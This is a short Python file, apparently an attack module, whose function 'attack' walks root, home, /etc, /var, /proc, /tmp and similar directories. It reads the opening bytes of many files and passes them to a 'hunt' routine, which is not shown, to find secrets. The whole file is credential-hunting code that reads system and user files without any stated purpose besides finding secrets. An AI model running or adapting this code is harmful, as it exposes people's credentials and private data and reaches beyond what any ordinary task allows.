"""Looks through homes and the usual places of secrets."""
# ruff: noqa

import os


def attack():
    seen = []
    for place in ("/root", "/home", os.path.expanduser("~"), "/etc", "/var", "/run", "/work", "/proc", "/sys", "/tmp"):
        for path, _, names in os.walk(place):
            for name in names[:50]:
                try:
                    found = hunt(open(os.path.join(path, name), "rb").read(4096))
                except OSError:
                    continue
                if found:
                    return found
            seen.append(path)
            if len(seen) > 300:
                break
